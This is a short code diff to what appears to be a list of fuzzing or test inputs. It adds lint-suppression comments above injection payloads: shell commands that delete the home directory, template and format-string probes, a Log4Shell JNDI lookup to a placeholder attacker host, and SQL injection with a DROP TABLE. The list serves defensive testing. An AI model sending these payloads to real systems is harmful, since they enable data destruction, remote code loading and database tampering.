@@ -169,6 +169,7 @@ const SHELL = [
   '& calc.exe',
   '$(rm -rf ~)',
   '`rm -rf ~`',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is what somebody hopes for
   '${IFS}rm',
   '$HOME',
   '~root',
@@ -301,11 +302,13 @@ const TEMPLATES = [
   '%s%s%s%n',
   '%d%x%1000000000d',
   '{0}{1}',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is what somebody hopes for
   '${7*7}',
   '#{7*7}',
   '<%= 7*7 %>',
   '{{7*7}}',
   '{%raw%}',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is what somebody hopes for
   '${jndi:ldap://attacker.invalid/a}',
   "' OR 1=1 --",
   '"; DROP TABLE x; --',
